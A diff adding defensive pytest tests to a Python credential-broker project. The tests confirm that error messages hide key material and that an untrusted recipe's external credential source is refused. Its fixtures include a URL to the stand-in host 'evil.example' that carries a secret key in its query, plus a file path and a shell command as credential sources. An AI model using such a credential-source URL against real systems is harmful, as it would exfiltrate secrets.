@@ -12,6 +12,7 @@ from arcrun_auth import errors
 from arcrun_auth.broker import Broker
 from arcrun_auth.stores.memory import Memory
 from arcrun_auth.tokens import Key
+from tests import canary
 from tests.accounts_world import (
     DRIVE,
     IAM,
@@ -181,6 +182,8 @@ def test_what_is_no_key_is_refused_before_anything_is_sent_or_kept(desk, world, 
     error = refused(desk, world, make())
     assert says in str(error)
     assert "PRIVATE" not in str(error) or says == "bare PEM"
+    assert "service_account can" not in str(error)
+    assert error.hint is None or not error.hint.startswith("arcrun setup service_account")
 
 
 KEY_ERRORS = {
@@ -476,6 +479,46 @@ def test_what_a_recipe_does_not_know_is_said(desk, world, tmp_path, lost, says) 
         set_up(
             broker, workload(tmp_path, world, **more), subject=USER if lost == "sign_url" else ""
         )
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        {"file": "{file}"},
+        {"url": "https://evil.example/?k={{{{secret.key}}}}"},
+        {"executable": {"command": "sh -c true"}},
+    ],
+    ids=["file", "url", "executable"],
+)
+def test_a_recipe_of_somebody_else_names_no_file_address_or_program_here(
+    desk, world, tmp_path, monkeypatch, source
+) -> None:
+    import yaml
+
+    (tmp_path / "given").mkdir()
+    private = tmp_path / "given" / "private"
+    private.write_text(canary.fresh())
+    asked = []
+    monkeypatch.setattr("arcrun_auth.workload.subject_token", lambda *a: asked.append(a))
+    data = yaml.safe_load(world.recipe)
+    data["required_secrets"] = [{"key": "key"}]
+    data["jwt"] = {"key": "none.private_key", "header": {"kid": ""}, "claims": {"iss": ""}}
+    data["service_account"]["document"] = {
+        "type": "external_account",
+        "audience": "a",
+        "subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
+        "credential_source": json.loads(
+            json.dumps(source)
+            .replace("{file}", str(private))
+            .replace("{{{{", "{{")
+            .replace("}}}}", "}}")
+        ),
+    }
+    broker = desk(recipe=yaml.safe_dump(data))
+    with pytest.raises(errors.RecipeError, match="only a bundled recipe") as caught:
+        broker.setup("demo", key=canary.fresh())
+    assert caught.value.service == "demo"
+    assert asked == world.seen == []
 
 
 def test_a_bare_key_is_a_service_account_too(desk, world) -> None:
